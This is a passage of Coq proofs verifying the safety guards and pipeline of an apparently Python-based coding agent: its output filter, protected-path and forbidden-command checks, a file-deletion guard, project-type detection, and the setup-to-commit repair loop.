  else by_line t.
Proof.
  destruct text as [|c text']; [easy|]. intros _. unfold enforce, by_line.
  cbv zeta.
  destruct (startswith _ (u "TOOL:")); [reflexivity|].
  destruct (_ && _); [reflexivity|].
  destruct (has_valid_prefix _ _); [reflexivity|].
  destruct (clean _); [reflexivity|].
  destruct (strip _); reflexivity.
Qed.

Lemma kept_line_spec (line : str) :
  kept_line line = true <->
  strip line <> []
  /\ forall p, In p CONVERSATIONAL_PATTERNS -> match_ IGNORE p (strip line) = None.
Proof.
  unfold kept_line. destruct (strip line) as [|c s] eqn:E.
  - split; [discriminate | intros [H _]; now destruct H].
  - rewrite negb_true_iff. split.
    + intros H. split; [discriminate|]. now apply is_chat_false.
    + intros [_ H]. destruct (is_chat CONVERSATIONAL_PATTERNS (c :: s)) eqn:Ec;
        [|reflexivity].
      exfalso. clear -H Ec. revert H Ec.
      generalize CONVERSATIONAL_PATTERNS as patterns.
      induction patterns as [|q rest IH]; cbn [is_chat]; [discriminate|].
      intros H. rewrite (H q (or_introl eq_refl)). apply IH.
      intros p Hp. apply H. now right.
Qed.

(** The lines [enforce] keeps are the lines [kept_line] accepts, in their
    order. *)
Lemma clean_filter (lines : list str) : clean lines = filter kept_line lines.
Proof.
  induction lines as [|x rest IH]; [reflexivity|]. cbn [clean filter].
  unfold kept_line at 1. destruct (strip x) as [|c s]; [exact IH|].
  destruct (is_chat CONVERSATIONAL_PATTERNS (c :: s)); cbn [negb];
    [exact IH | now rewrite IH].
Qed.

Lemma by_line_filter (t : str) :
  by_line t =
  match strip (join nl (filter kept_line (split_on LF t))) with
  | [] => None
  | r => Some r
  end.
Proof.
  unfold by_line. rewrite clean_filter.
  destruct (filter kept_line (split_on LF t)); reflexivity.
Qed.

End OutputFilter.

(** X8.  [is_safe_path] allows every path for the operation read; for any
    other operation it rejects a path exactly when the path starts, as a
    text, with one of the protected paths. *)
Theorem is_safe_path_spec (path operation : str) :
  (operation = u "read" -> is_safe_path path operation = true)
  /\ (operation <> u "read" ->
      (is_safe_path path operation = false <->
       exists p, In p PROTECTED_PATHS /\ has_prefix path p)).
Proof.
  unfold is_safe_path. split.
  - intros ->. reflexivity.
  - intros Hop. destruct (str_eqb operation (u "read")) eqn:E.
    + apply str_eqb_eq in E. contradiction.
    + apply unprotected_false.
Qed.

(** Writing the shell under /bin/ is rejected. *)
Lemma is_safe_path_spec_witness :
  is_safe_path (u "/bin/sh") (u "write") = false.
Proof.
  apply (proj2 (is_safe_path_spec (u "/bin/sh") (u "write"))).
  - discriminate.
  - exists (u "/bin/"). split; [vm_compute; tauto | now exists (u "sh")].
Defined.

(** X9.  [enforce_output_only] returns the trimmed text when the text is not
    empty and its trimmed form starts with an opening brace, an opening
    bracket or one of the valid prefixes, and nothing otherwise; what it
    returns is never empty, and passes the filter again unchanged. *)
Theorem enforce_output_only_spec (text : str) :
  (forall t,
      enforce_output_only text = Some t <->
      text <> [] /\ t = strip text
      /\ exists p, In p (u "{" :: u "[" :: VALID_PREFIXES) /\ has_prefix t p)
  /\ (forall t,
        enforce_output_only text = Some t ->
        t <> [] /\ enforce_output_only t = Some t).
Proof.
  split; [intros t; apply enforce_output_only_some|].
  intros t H. apply enforce_output_only_some in H.
  destruct H as [_ [Et [p [Hin Hp]]]].
  assert (Ht : t <> []) by exact (marked_nonempty Hin Hp).
  split; [exact Ht|].
  apply enforce_output_only_some. split; [exact Ht|]. split.
  - rewrite Et. symmetry. apply strip_idempotent.
  - exists p. auto.
Qed.

(** A log line between blanks comes out trimmed. *)
Lemma enforce_output_only_spec_witness :
  enforce_output_only (u "  OK: done ") = Some (u "OK: done")
  /\ enforce_output_only (u "OK: done") = Some (u "OK: done").
Proof.
  assert (H : enforce_output_only (u "  OK: done ") = Some (u "OK: done")).
  { apply (proj1 (enforce_output_only_spec (u "  OK: done "))).
    split; [discriminate|]. split; [vm_compute; reflexivity|].
    exists (u "OK:"). split; [vm_compute; tauto | now exists (u " done")]. }
  split; [exact H|].
  apply (proj2 (enforce_output_only_spec (u "  OK: done ")) _ H).
Defined.



End EnforceFacts.

(* ================================================================== *)
(** * The tools *)
(* ================================================================== *)

Module ToolsFacts.
Import PyStr Py OS Tools Notions PyStrFacts.

Section WithSystem.
Context {U : UnicodeDB} {W : Type} {Sys : System W}.

Lemma none_in_false (forbidden : list str) (cmd_lower : str) :
  none_in forbidden cmd_lower = false <->
  exists f, In f forbidden /\ occurs_in f cmd_lower.
Proof.
  induction forbidden as [|g rest IH]; simpl.
  - split; [discriminate | intros (f & [] & _)].
  - destruct (str_in g cmd_lower) eqn:E.
    + split; [intros _ | reflexivity]. exists g. split; [now left | now apply str_in_spec].
    + rewrite IH. split.
      * intros (f & Hin & Hf). exists f. auto.
      * intros (f & [-> | Hin] & Hf).
        -- apply str_in_spec in Hf. congruence.
        -- exists f. auto.
Qed.

Lemma marker_found_spec (files : list str) (marker : str) :
  marker_found files marker = true <-> marker_present files marker.
Proof.
  unfold marker_found, marker_present. destruct marker as [|c ext].
  - change (startswith [] (u "*")) with false. cbv iota.
    rewrite existsb_exists. split.
    + intros (f & Hin & Hf). apply str_eqb_eq in Hf. now subst.
    + intros Hin. exists []. now split.
  - change (startswith (c :: ext) (u "*")) with ((42 =? c)%N && true).
    rewrite andb_true_r. change (skipn 1 (c :: ext)) with ext.
    destruct (N.eqb_spec 42 c) as [<- | Hc].
    + rewrite existsb_exists. split.
      * intros (f & Hin & Hf). exists f. split; [exact Hin | now apply endswith_spec].
      * intros (f & Hin & Hf). exists f. split; [exact Hin | now apply endswith_spec].
    + rewrite existsb_exists.
      assert (Hm : match c with 42%N => exists f, In f files /\ has_suffix f ext
                   | _ => In (c :: ext) files end <-> In (c :: ext) files).
      { destruct c as [|p]; [reflexivity|].
        do 6 (destruct p as [p|p|]; try reflexivity). now elim Hc. }
      rewrite Hm. split.
      * intros (f & Hin & Hf). apply str_eqb_eq in Hf. now subst.
      * intros Hin. exists (c :: ext). split; [exact Hin | now apply str_eqb_eq].
Qed.

(** The kinds of [indicators] are six different names, none of them
    [unknown]. *)
Lemma indicators_keys (ptype : str) (m1 m2 : list str) :
  In (ptype, m1) indicators -> In (ptype, m2) indicators -> m1 = m2.
Proof.
  unfold indicators. cbn. intros H1 H2.
  repeat match goal with
         | H : _ \/ _ |- _ => destruct H
         | H : False |- _ => contradiction
         end;
    repeat match goal with
           | H : (_, _) = (_, _) |- _ => injection H as ? ?
           end;
    subst; try reflexivity; discriminate.
Qed.

Lemma indicators_known (ptype : str) (markers : list str) :
  In (ptype, markers) indicators -> ptype <> u "unknown".
Proof.
  unfold indicators. cbn. intros H.
  repeat match goal with
         | H : _ \/ _ |- _ => destruct H
         | H : False |- _ => contradiction
         end;
    injection H as <- _; discriminate.
Qed.

Lemma found_in_iff (files : list str) (ptype : str) (markers : list str) :
  In (ptype, markers) indicators ->
  (In ptype (found_in files) <-> exists mk, In mk markers /\ marker_present files mk).
Proof.
  intros Hin. unfold found_in. rewrite in_flat_map. split.
  - intros ([pt mks] & Hx & Hp).
    destruct (existsb (marker_found files) mks) eqn:E; [|contradiction].
    destruct Hp as [-> | []].
    rewrite (indicators_keys Hin Hx).
    apply existsb_exists in E as (mk & Hmk & Hf).
    exists mk. split; [exact Hmk | now apply marker_found_spec].
  - intros (mk & Hmk & Hf). exists (ptype, markers). split; [exact Hin|].
    assert (E : existsb (marker_found files) markers = true).
    { apply existsb_exists. exists mk. split; [exact Hmk | now apply marker_found_spec]. }
    rewrite E. now left.
Qed.

Lemma found_in_known (files : list str) (ptype : str) :
  In ptype (found_in files) -> exists markers, In (ptype, markers) indicators.
Proof.
  unfold found_in. rewrite in_flat_map. intros ([pt mks] & Hx & Hp).
  destruct (existsb (marker_found files) mks); [|contradiction].
  destruct Hp as [-> | []]. now exists mks.
Qed.

Lemma detect_unfold (path : str) (w : W) :
  detect_project_type path w =
  match listdir path w with
  | inl files => match found_in files with [] => [u "unknown"] | _ => found_in files end
  | inr _ => [u "unknown"]
  end.
Proof. unfold detect_project_type, found_in. destruct (listdir path w); reflexivity. Qed.

End WithSystem.

(** X2.  [detect_project_type] never returns an empty list.  A kind of its
    table (python, node, rust, go, c, shell) is in the result exactly when the
    directory can be listed and holds one of the kind's markers, a marker
    being a file name or [*] and an ending; the result is the single name
    unknown exactly when the directory cannot be listed or holds no marker at
    all. *)
Theorem detect_project_type_spec (W : Type) (Sys : System W) (path : str) (w : W) :
  detect_project_type path w <> []
  /\ (forall ptype markers,
        In (ptype, markers) indicators ->
        (In ptype (detect_project_type path w) <->
         exists files,
           listdir path w = inl files
           /\ exists mk, In mk markers /\ marker_present files mk))
  /\ (detect_project_type path w = [u "unknown"] <->
      forall files,
        listdir path w = inl files ->
        forall ptype markers mk,
          In (ptype, markers) indicators -> In mk markers -> ~ marker_present files mk).
Proof.
  rewrite detect_unfold. destruct (listdir path w) as [files|err].
  - split; [|split].
    + destruct (found_in files); discriminate.
    + intros ptype markers Hin.
      assert (Hi : In ptype (match found_in files with
                             | [] => [u "unknown"]
                             | _ => found_in files
                             end)
                   <-> In ptype (found_in files)).
      { destruct (found_in files) as [|x l] eqn:E; [|reflexivity]. split; [|contradiction].
        intros [H | []]. symmetry in H. now apply indicators_known in Hin. }
      rewrite Hi, (found_in_iff files Hin). split.
      * intros H. now exists files.
      * intros (files' & [= <-] & H). exact H.
    + split.
      * intros H files' [= <-] ptype markers mk Hin Hmk Hp.
        assert (Hf : In ptype (found_in files))
          by (apply (found_in_iff files Hin); now exists mk).
        destruct (found_in files) as [|x l] eqn:E; [contradiction|].
        injection H as -> ->. destruct Hf as [<- | []].
        now apply indicators_known in Hin.
      * intros H. destruct (found_in files) as [|x l] eqn:E; [reflexivity|].
        exfalso.
        assert (Hx : In x (found_in files)) by (rewrite E; now left).
        destruct (@found_in_known files x Hx) as (markers & Hin).
        destruct (proj1 (found_in_iff files Hin) Hx) as (mk & Hmk & Hp).
        exact (H files eq_refl x markers mk Hin Hmk Hp).
  - split; [discriminate|]. split.
    + intros ptype markers Hin. split.
      * intros [H | []]. symmetry in H. now apply indicators_known in Hin.
      * intros (files & [=] & _).
    + split; [intros _ files [=] | reflexivity].
Qed.

(** The sample world lists no file: nothing is detected. *)
Lemma detect_project_type_spec_witness :
  detect_project_type (Sys := Sample.printing (fun _ => [])) Sample.demo_path
    Sample.empty_world = [u "unknown"].
Proof.
  apply (proj2 (proj2 (@detect_project_type_spec Sample.world
           (Sample.printing (fun _ => [])) Sample.demo_path Sample.empty_world))).
  intros files [= <-] ptype markers mk Hin Hmk Hp.
  unfold marker_present in Hp. destruct mk as [|c ext]; [exact Hp|].
  destruct c as [|p]; [exact Hp|].
  do 6 (destruct p as [p|p|]; try exact Hp). now destruct Hp as (f & [] & _).
Defined.

Lemma under_any_spec (prefixes : list str) (path : str) :
  under_any prefixes path = true <-> exists c, In c prefixes /\ has_prefix path c.
Proof.
  induction prefixes as [|c rest IH]; simpl.
  - split; [discriminate | intros (c & [] & _)].
  - destruct (startswith path c) eqn:E.
    + split; [intros _ | reflexivity]. exists c. split; [now left | now apply startswith_spec].
    + rewrite IH. split.
      * intros (d & Hin & Hd). exists d. auto.
      * intros (d & [<- | Hin] & Hd).
        -- apply startswith_spec in Hd. congruence.
        -- exists d. auto.
Qed.

Lemma not_in_existsb (kind : str) (l : list str) :
  ~ In kind l -> existsb (str_eqb kind) l = false.
Proof.
  intros H. destruct (existsb (str_eqb kind) l) eqn:E; [|reflexivity].
  apply existsb_exists in E as (x & Hin & Hx). apply str_eqb_eq in Hx. now subst.
Qed.

(** X3.  [run_command] hands a command to the shell only when the command,
    lower-cased and trimmed, holds none of the forbidden texts: otherwise it
    answers that the command was blocked and the world is as before.  Whatever
    it returns either starts with ERROR or is the standard output of a run that
    exited with code 0. *)
Theorem run_command_outcomes (U : UnicodeDB) (W : Type) (Sys : System W)
    (command : str) (cwd : option str) (timeout : nat) (w : W) :
  ((exists f, In f FORBIDDEN_COMMANDS /\ occurs_in f (strip (lower command))) ->
   run_command command cwd timeout w = (u "ERROR: Command blocked by safety filter.", w))
  /\ (has_prefix (fst (run_command command cwd timeout w)) (u "ERROR")
      \/ exists stderr,
           subprocess_run command cwd timeout w =
           (Completed 0 (fst (run_command command cwd timeout w)) stderr,
            snd (run_command command cwd timeout w))).
Proof.
  unfold run_command, _check_safety. split.
  - intros H. apply none_in_false in H. now rewrite H.
  - destruct (none_in FORBIDDEN_COMMANDS (strip (lower command))); cbn [negb].
    + destruct (subprocess_run command cwd timeout w) as [[rc out err| |e] w'].
      * destruct (Z.eqb_spec rc 0) as [-> | Hrc]; cbn [fst snd].
        -- right. now exists err.
        -- left. exists (u " [" ++ str_of_Z rc ++ u "]: " ++ strip err). reflexivity.
      * left. eexists. reflexivity.
      * left. eexists. reflexivity.
    + left. eexists. reflexivity.
Qed.

(** A command that names a reboot is blocked, whatever else it does. *)
Lemma run_command_outcomes_witness :
  run_command (U := Sample.latin_only) (Sys := Sample.printing (fun _ => u "OK"))
    (u "python3 test_Reboot.py") (Some Sample.demo_path) 60 Sample.empty_world
  = (u "ERROR: Command blocked by safety filter.", Sample.empty_world).
Proof.
  apply (proj1 (@run_command_outcomes Sample.latin_only Sample.world
                  (Sample.printing (fun _ => u "OK")) (u "python3 test_Reboot.py")
                  (Some Sample.demo_path) 60 Sample.empty_world)).
  exists (u "reboot"). split.
  - do 9 right. left. reflexivity.
  - exists (u "python3 test_"), (u ".py"). reflexivity.
Defined.

(** X4.  [run_tests] has a runner for the kinds python, node, rust, go and
    c only: in a directory where none of them is detected (one that cannot be
    listed, holds no marker, or holds shell scripts only) it runs no command
    and answers that no test runner was detected. *)
Theorem run_tests_without_runner (U : UnicodeDB) (W : Type) (Sys : System W)
    (path : str) (w : W) :
  (forall kind,
      In kind [u "python"; u "node"; u "rust"; u "go"; u "c"] ->
      ~ In kind (detect_project_type path w)) ->
  run_tests path w = (u "[unknown] No test runner detected", w).
Proof.
  intros H. unfold run_tests, test_kind. cbv zeta.
  rewrite !not_in_existsb; [reflexivity | | | | |]; apply H; cbn; auto 6.
Qed.

Lemma run_tests_without_runner_witness :
  run_tests (U := Sample.latin_only) (Sys := Sample.printing (fun _ => u "OK"))
    Sample.demo_path Sample.empty_world
  = (u "[unknown] No test runner detected", Sample.empty_world).
Proof.
  apply (@run_tests_without_runner Sample.latin_only Sample.world
           (Sample.printing (fun _ => u "OK")) Sample.demo_path Sample.empty_world).
  intros kind Hk [Hin | []]. cbn in Hk.
  repeat destruct Hk as [<- | Hk]; try discriminate Hin. exact Hk.
Defined.

(** X5.  [delete_file] never removes a path under one of its critical
    prefixes: it answers with an error and the world is as before.  Any other
    path is handed to [os.remove], whose failure becomes an ERROR answer. *)
Theorem delete_file_guard (W : Type) (Rm : Remover W) (path : str) (w : W) :
  ((exists c, In c critical /\ has_prefix path c) ->
   delete_file path w = (u "ERROR: Cannot delete system-critical path: " ++ path, w))
  /\ ((forall c, In c critical -> ~ has_prefix path c) ->
      snd (delete_file path w) = snd (remove path w)
      /\ (fst (remove path w) = None -> fst (delete_file path w) = u "OK: Deleted " ++ path)
      /\ (forall e, fst (remove path w) = Some e ->
                    fst (delete_file path w) = u "ERROR: " ++ e)).
Proof.
  unfold delete_file. split.
  - intros H. apply under_any_spec in H. now rewrite H.
  - intros H. destruct (under_any critical path) eqn:E.
    + apply under_any_spec in E as (c & Hin & Hc). now elim (H c).
    + destruct (remove path w) as [[e|] w']; cbn; repeat split; congruence.
Qed.

Lemma delete_file_guard_witness :
  delete_file (Rm := Sample.unlinking) (u "/ai/core/main.py")
    (Sample.store (u "/ai/core/main.py") (u "print(1)") Sample.empty_world)
  = (u "ERROR: Cannot delete system-critical path: /ai/core/main.py",
     Sample.store (u "/ai/core/main.py") (u "print(1)") Sample.empty_world).
Proof.
  apply (proj1 (@delete_file_guard Sample.world Sample.unlinking (u "/ai/core/main.py")
                  (Sample.store (u "/ai/core/main.py") (u "print(1)") Sample.empty_world))).
  exists (u "/ai/core/"). split; [now left|]. exists (u "main.py"). reflexivity.
Defined.

End ToolsFacts.

(* ================================================================== *)
(** * The execution pipeline *)
(* ================================================================== *)

Module ExecutorFacts.
Import PyStr Re Py OS Tools Notions Executor PyStrFacts.
Import Sample (demo_goal, demo_path, name_error_output, syntax_error_output).

Section WithSystem.
Context {U : UnicodeDB} {W : Type} {Sys : System W}.
Variable llm : option (LLM W).
Variable project_path : str.

#[local] Abbreviation M := (@M W).
#[local] Abbreviation pstate := (@pstate W).

(** One step of a computation. *)
Lemma bind_ret (A B : Type) (c : M A) (k : A -> M B) (st st' : pstate) (a : A) :
  c st = (Ret a, st') -> bind c k st = k a st'.
Proof. intros E. unfold bind. now rewrite E. Qed.

Lemma bind_raise (A B : Type) (c : M A) (k : A -> M B) (st st' : pstate) (e : exn) :
  c st = (Raise e, st') -> bind c k st = (Raise e, st').
Proof. intros E. unfold bind. now rewrite E. Qed.

Lemma call_run (A : Type) (f : W -> A * W) (st : pstate) :
  call f st = (Ret (fst (f (world st))),
               {| world := snd (f (world st)); report := report st; goal := goal st |}).
Proof. unfold call. now destruct (f (world st)). Qed.

Lemma ask_run (A : Type) (f : W -> A) (st : pstate) : ask f st = (Ret (f (world st)), st).
Proof. reflexivity. Qed.

Lemma get_goal_run (st : pstate) : get_goal st = (Ret (goal st), st).
Proof. reflexivity. Qed.

Lemma append_stage_run (s : Stage) (st : pstate) :
  append_stage s st =
  (Ret tt, {| world := world st; report := push_stage s (report st); goal := goal st |}).
Proof. reflexivity. Qed.

Lemma ret_run (A : Type) (a : A) (st : pstate) : ret a st = (Ret a, st).
Proof. reflexivity. Qed.

Lemma lift_run (A : Type) (a : A) (st : pstate) : lift (Ret a) st = (Ret a, st).
Proof. reflexivity. Qed.

Lemma bind_lift (A B : Type) (o : outcome A) (k : A -> M B) (st : pstate) :
  bind (lift o) k st =
  match o with
  | Ret a => k a st
  | Raise e => (Raise e, st)
  end.
Proof. unfold bind, lift. now destruct o. Qed.

Ltac primitive :=
  first [apply call_run | apply ask_run | apply get_goal_run | apply append_stage_run
        | apply ret_run | apply lift_run].

(** Run the first primitive call of a sequence. *)
Ltac run := erewrite bind_ret by primitive; cbv beta.

Lemma setup_appends (st : pstate) :
  exists d st',
    appends (_stage_setup project_path) st tt
      {| name := setup; status := ok; detail := d; command := None |} st'.
Proof.
  unfold appends, _stage_setup. run.
  destruct (exists_ project_path (world st)); cbn [negb].
  - eexists _, _. split; [apply append_stage_run|]. now split.
  - run. run. eexists _, _. split; [apply append_stage_run|]. now split.
Qed.

Lemma write_files_keeps (files : list (str * str)) (st : pstate) :
  exists st', keeps (write_files project_path files) st (map fst files) st'.
Proof.
  revert st; induction files as [|[filename content] rest IH]; intros st.
  - exists st. now unfold keeps.
  - unfold keeps in *. cbn [write_files map fst]. run.
    match goal with |- context [bind (write_files _ _) _ ?s] => destruct (IH s) as (st' & E & R & G) end.
    erewrite bind_ret by exact E. exists st'. now repeat split.
Qed.

(** Code generation without a backend: the template files, or the
    placeholder entry file. *)
Lemma codegen_appends (st : pstate) :
  g_files (goal st) <> None \/ backend llm = None ->
  exists d st',
    appends (_stage_codegen llm project_path) st tt
      {| name := codegen; status := ok; detail := d; command := None |} st'.
Proof.
  intros H. unfold appends, _stage_codegen. run.
  destruct (g_files (goal st)) as [files|] eqn:Hf.
  - destruct (write_files_keeps files st) as (st1 & E & R & G).
    erewrite bind_ret by exact E. eexists _, _.
    split; [apply append_stage_run|]. cbn. now rewrite R, G.
  - destruct H as [H | H]; [easy|]. rewrite H.
    erewrite bind_ret; [| run; apply ret_run ].
    eexists _, _. split; [apply append_stage_run|]. now split.
Qed.

(** Verification with the goal's own test command. *)
Lemma verify_appends (st : pstate) (cmd : str) :
  g_test_cmd (goal st) = Some (Json.JString cmd) -> cmd <> [] ->
  let out := fst (run_command cmd (Some project_path) 60 (world st)) in
  let passed := negb (_is_test_failure (Some out)) in
  exists st',
    appends (_stage_verify project_path) st passed
      {| name := verify; status := verdict passed; detail := slice_to 300 out;
         command := Some cmd |} st'.
Proof.
  intros Hc Hne out passed. unfold appends, _stage_verify. run. rewrite Hc.
  destruct cmd as [|c cmd]; [easy|].
  cbn [Json.json_truthy get run_test_cmd command_text]. run. run.
  eexists. split; [apply ret_run|]. now split.
Qed.

Lemma commit_appends (st : pstate) :
  exists d st',
    appends (_stage_commit project_path) st tt
      {| name := commit; status := ok; detail := d; command := None |} st'.
Proof.
  unfold appends, _stage_commit. run. run.
  eexists _, _. split; [apply append_stage_run|]. now split.
Qed.

(** The traceback marker makes an output a failure. *)
Lemma traceback_is_failure (out : str) :
  occurs_in (u "Traceback (most recent call last)") out ->
  _is_test_failure (Some out) = true.
Proof.
  intros Hm. unfold _is_test_failure.
  assert (Ht : str_in (u "Traceback") out = true).
  { apply str_in_spec. destruct Hm as (a & b & ->).
    exists a, (u " (most recent call last)" ++ b). reflexivity. }
  apply str_in_spec in Hm.
  rewrite Ht. simpl negb. rewrite andb_false_r.
  unfold failure_indicators. simpl existsb. now rewrite Hm.
Qed.

(** The pattern repair on an output that does not speak of a syntax error
    returns and leaves the report and the goal alone. *)
Lemma pattern_repair_keeps (error_msg : str) (st : pstate) :
  str_in (u "syntaxerror") (lower error_msg) = false ->
  exists b st', keeps (_pattern_repair error_msg) st b st'.
Proof.
  unfold _pattern_repair, keeps. cbv zeta. intros ->.
  repeat first
    [ progress run
    | match goal with
      | |- context [match search ?f ?r ?m with _ => _ end] => destruct (search f r m)
      | |- context [if ?b then _ else _] => destruct b
      end ];
  eexists _, _; (split; [apply ret_run | now split]).
Qed.

(** The pattern repair at its syntax-error rule with [re] unbound. *)
Lemma pattern_repair_raises (error_msg : str) (st : pstate) :
  syntax_rule_before_import error_msg = true ->
  _pattern_repair error_msg st = (Raise (UnboundLocalError (u "re")), st).
Proof.
  unfold syntax_rule_before_import, _pattern_repair. intros Hs.
  apply andb_true_iff in Hs as [Hsyn Himp]. apply negb_true_iff in Himp.
  rewrite Himp, Hsyn. reflexivity.
Qed.

(** ** The pipeline when the check passes *)

Lemma pipeline_passes (st : pstate) (cmd : str) :
  g_files (goal st) <> None \/ backend llm = None ->
  g_test_cmd (goal st) = Some (Json.JString cmd) -> cmd <> [] ->
  (forall w, _is_test_failure (Some (fst (run_command cmd (Some project_path) 60 w))) = false) ->
  exists d1 d2 d3 d4 st',
    stages_in_order llm project_path st = (Ret tt, st')
    /\ stages (report st') =
       stages (report st) ++
       [stage_of setup ok d1 None; stage_of codegen ok d2 None;
        stage_of verify ok d3 (Some cmd); stage_of commit ok d4 None]
    /\ success (report st') = true.
Proof.
  intros Hgen Hc Hne Hok. unfold stages_in_order.
  destruct (setup_appends st) as (d1 & st1 & E1 & R1 & G1).
  erewrite bind_ret by exact E1.
  rewrite <- G1 in Hgen, Hc.
  destruct (codegen_appends st1 Hgen) as (d2 & st2 & E2 & R2 & G2).
  erewrite bind_ret by exact E2.
  rewrite <- G2 in Hc.
  pose proof (verify_appends st2 Hc Hne) as V. cbv zeta in V.
  rewrite Hok in V. cbn [negb verdict] in V. destruct V as (st3 & E3 & R3 & G3).
  erewrite bind_ret by exact E3. cbn [negb].
  erewrite bind_ret by apply ret_run.
  destruct (commit_appends st3) as (d4 & st4 & E4 & R4 & G4).
  erewrite bind_ret by exact E4.
  exists d1, d2, (slice_to 300 (fst (run_command cmd (Some project_path) 60 (world st2)))),
    d4. eexists. split; [reflexivity|].
  cbn. rewrite R4, R3, R2, R1. cbn. split; [|reflexivity].
  rewrite <- !app_assoc. reflexivity.
Qed.

(** ** The repair loop without a backend *)

Section FailingCheck.
Variable cmd : str.
Hypothesis no_backend : backend llm = None.
Hypothesis always_failing :
  forall t w,
    let out := fst (run_command cmd (Some project_path) t w) in
    occurs_in (u "Traceback (most recent call last)") out
    /\ str_in (u "syntaxerror") (lower out) = false.

Lemma repair_loop_gives_up (remaining attempt : nat) (st : pstate) :
  g_test_cmd (goal st) = Some (Json.JString cmd) ->
  exists n st',
    keeps (repair_loop llm project_path remaining attempt) st (GaveUp n) st'
    /\ attempt + Nat.min 1 remaining <= n <= attempt + remaining.
Proof.
  revert attempt st; induction remaining as [|r IH]; intros attempt st Hc.
  - exists attempt, st. split; [now unfold keeps | simpl; lia].
  - cbn [repair_loop]. unfold keeps. run. rewrite Hc. cbn [get run_test_cmd]. run.
    destruct (always_failing 30 (world st)) as [Hm Hs].
    rewrite (traceback_is_failure Hm). cbn [negb]. rewrite no_backend.
    match goal with
    | |- context [bind (_pattern_repair ?o) _ ?s] =>
        destruct (@pattern_repair_keeps o s Hs) as (b & st2 & E & R & G)
    end.
    erewrite bind_ret by exact E. destruct b; cbn [negb].
    + destruct (IH (attempt + 1) st2) as (n & st3 & (E3 & R3 & G3) & Hn).
      { now rewrite G. }
      exists n, st3. split; [|lia]. split; [exact E3|]. rewrite R3, G3, R, G. now split.
    + exists (attempt + 1), st2. split; [|simpl; lia].
      split; [apply ret_run|]. rewrite R, G. now split.
Qed.

(** An attempt that applies no fix is the last one. *)
Lemma repair_loop_stops_early (remaining attempt : nat) (st st' : pstate) :
  g_test_cmd (goal st) = Some (Json.JString cmd) ->
  (let (out, w) := run_command cmd (Some project_path) 30 (world st) in
   _pattern_repair out {| world := w; report := report st; goal := goal st |}
   = (Ret false, st')) ->
  repair_loop llm project_path (S remaining) attempt st = (Ret (GaveUp (attempt + 1)), st').
Proof.
  intros Hc. cbn [repair_loop]. run. rewrite Hc. cbn [get run_test_cmd]. run.
  destruct (always_failing 30 (world st)) as [Hm _].
  rewrite (traceback_is_failure Hm). cbn [negb]. rewrite no_backend.
  destruct (run_command cmd (Some project_path) 30 (world st)) as [out w]. cbn [fst snd].
  intros E. erewrite bind_ret by exact E. reflexivity.
Qed.

Lemma repair_appends (st : pstate) :
  g_test_cmd (goal st) = Some (Json.JString cmd) ->
  exists d st',
    appends (_stage_repair llm project_path) st false (stage_of repair fail d None) st'.
Proof.
  intros Hc. unfold appends, _stage_repair.
  destruct (repair_loop_gives_up MAX_FIX_ATTEMPTS 0 st Hc) as (n & st1 & (E & R & G) & _).
  erewrite bind_ret by exact E. cbv beta iota. run.
  eexists _, _. split; [apply ret_run|]. cbn. now rewrite R, G.
Qed.

Lemma pipeline_gives_up (st : pstate) :
  g_test_cmd (goal st) = Some (Json.JString cmd) -> cmd <> [] ->
  exists d1 d2 d3 d4 st',
    stages_in_order llm project_path st = (Ret tt, st')
    /\ stages (report st') =
       stages (report st) ++
       [stage_of setup ok d1 None; stage_of codegen ok d2 None;
        stage_of verify fail d3 (Some cmd); stage_of repair fail d4 None]
    /\ success (report st') = success (report st).
Proof.
  intros Hc Hne. unfold stages_in_order.
  destruct (setup_appends st) as (d1 & st1 & E1 & R1 & G1).
  erewrite bind_ret by exact E1.
  rewrite <- G1 in Hc.
  destruct (codegen_appends st1 (or_intror no_backend)) as (d2 & st2 & E2 & R2 & G2).
  erewrite bind_ret by exact E2.
  rewrite <- G2 in Hc.
  pose proof (verify_appends st2 Hc Hne) as V. cbv zeta in V.
  destruct (always_failing 60 (world st2)) as [Hm _].
  rewrite (traceback_is_failure Hm) in V. cbn [negb verdict] in V.
  destruct V as (st3 & E3 & R3 & G3).
  erewrite bind_ret by exact E3. cbn [negb].
  rewrite <- G3 in Hc.
  destruct (repair_appends st3 Hc) as (d4 & st4 & E4 & R4 & G4).
  erewrite bind_ret by exact E4.
  exists d1, d2, (slice_to 300 (fst (run_command cmd (Some project_path) 60 (world st2)))),
    d4, st4. split; [reflexivity|].
  rewrite R4, R3, R2, R1. cbn. split; [|reflexivity].
  rewrite <- !app_assoc. reflexivity.
Qed.

End FailingCheck.

(** ** The pipeline on any goal *)

Lemma quiet_ret (A : Type) (a : A) : quiet (ret (W := W) a).
Proof. intros st. now exists (Ret a), st. Qed.

Lemma quiet_lift (A : Type) (o : outcome A) : quiet (lift (W := W) o).
Proof. intros st. now exists o, st. Qed.

Lemma quiet_raise (A : Type) (e : exn) : quiet (@raise W A e).
Proof. intros st. now exists (Raise e), st. Qed.

Lemma quiet_call (A : Type) (f : W -> A * W) : quiet (call f).
Proof. intros st. rewrite call_run. now eexists _, _. Qed.

Lemma quiet_ask (A : Type) (f : W -> A) : quiet (ask f).
Proof. intros st. now eexists _, st. Qed.

Lemma quiet_get_goal : quiet (get_goal (W := W)).
Proof. intros st. now eexists _, st. Qed.

Lemma quiet_set_test_cmd (cmd : Json.json) : quiet (set_test_cmd (W := W) cmd).
Proof. intros st. now eexists _, _. Qed.

Lemma quiet_bind (A B : Type) (c : M A) (k : A -> M B) :
  quiet c -> (forall a, quiet (k a)) -> quiet (bind c k).
Proof.
  intros Hc Hk st. destruct (Hc st) as ([a|e] & st1 & E & R).
  - destruct (Hk a st1) as (o & st2 & E2 & R2).
    exists o, st2. split; [now erewrite bind_ret by exact E | now rewrite R2].
  - exists (Raise e), st1. split; [now erewrite bind_raise by exact E | exact R].
Qed.

Ltac quietly :=
  repeat first
    [ apply quiet_ret | apply quiet_lift | apply quiet_raise | apply quiet_call
    | apply quiet_ask | apply quiet_get_goal | apply quiet_set_test_cmd
    | apply quiet_bind; [|intros ?]
    | match goal with
      | |- quiet (if ?b then _ else _) => destruct b
      | |- quiet (match ?o with Some _ => _ | None => _ end) => destruct o
      end ].

Lemma generate_files_quiet (e : LLM W) (files : list (str * Json.json)) :
  quiet (generate_files project_path e files).
Proof.
  induction files as [|[filename file_desc] rest IH]; cbn [generate_files]; quietly;
    exact IH.
Qed.

(** The backend's code generation leaves the report alone, whatever the
    plan: it returns the names it wrote, or raises on a plan it cannot
    read. *)
Lemma llm_codegen_quiet (e : LLM W) : quiet (_llm_codegen project_path e).
